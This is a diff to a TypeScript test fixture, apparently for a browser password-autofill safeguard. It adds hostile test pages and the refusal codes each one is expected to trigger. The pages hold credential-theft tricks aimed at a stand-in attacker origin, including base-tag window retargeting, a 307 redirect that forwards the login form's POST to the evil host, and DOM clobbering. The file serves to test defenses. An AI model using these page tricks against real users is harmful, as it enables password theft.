@@ -6,6 +6,8 @@ export const password = 'p&ss "wörd"/+<1>'
 const field = '<input type=password id=pw name=pw>'
 const login = `<!doctype html><form method=post action=/session><input id=user name=user autocomplete=username>${field}<button id=go>Log in</button></form>`
 
+const redirected = (to: string) => `/redirect?status=307&to=${encodeURIComponent(to)}`
+
 /** What a page does with `document.querySelector('#pw')`. */
 const script = (code: string) =>
   `<script>const pw = document.querySelector('#pw'); const form = pw.form; ${code}</script>`
@@ -49,6 +51,11 @@ export const ownPages = (evil: () => string): Record<string, () => string> => ({
     `<!doctype html><form id=other action="${evil()}/session"></form><input type=password id=pw form=other>`,
   '/base': () => login.replace('<form', `<base href="${evil()}/"><form`),
   '/new-window': () => login.replace('<form', '<form target=_blank'),
+  '/base-window': () => login.replace('<form', '<base target=_blank><form'),
+  '/base-window-later': () => login + script(`form.insertAdjacentHTML('afterend', '<base target=elsewhere>')`),
+  '/base-window-behind-svg': () =>
+    login.replace('<form', '<svg><base target=_self></base></svg><base target=_blank><form'),
+  '/redirecting': () => login.replace('/session', redirected(`${evil()}/session`)),
   '/button-window': () => login.replace('<button', '<button formtarget=elsewhere'),
   '/leaves-on-focus': () => login + script(`pw.onfocus = () => { location = '${evil()}/' }`),
   '/leaves-on-input': () => login + script(`pw.oninput = () => { location = '${evil()}/' }`),
@@ -87,6 +94,9 @@ export const refusedAttempts: readonly { path: string; code: string; selector?: 
   { path: '/other-form', code: 'origin_mismatch' },
   { path: '/base', code: 'origin_mismatch' },
   { path: '/new-window', code: 'not_editable' },
+  { path: '/base-window', code: 'not_editable' },
+  { path: '/base-window-later', code: 'not_editable' },
+  { path: '/base-window-behind-svg', code: 'not_editable' },
   { path: '/button-window', code: 'not_editable' },
   { path: '/removed-on-focus', code: 'not_editable' },
   { path: '/moved-on-focus', code: 'not_editable' },
@@ -105,6 +115,7 @@ export const foreignPages = (own: () => string): Record<string, () => string> =>
       HTMLInputElement.prototype.checkVisibility = () => true</script>${login}`,
   '/named-elements': () =>
     `<!doctype html><img name=defaultView><img name=location><form name=origin></form><iframe name=origin></iframe>${login}`,
+  '/around': () => `<!doctype html><iframe id=f src="${own()}/redirecting"></iframe>`,
   '/nested': () => `<!doctype html><iframe id=f src="/" name="${own()}"></iframe>`,
   '/shadow': () =>
     `<!doctype html><div id=host></div><script>document.querySelector('#host').attachShadow({ mode: 'open' }).innerHTML = '<input type=password id=pw>'</script>`,
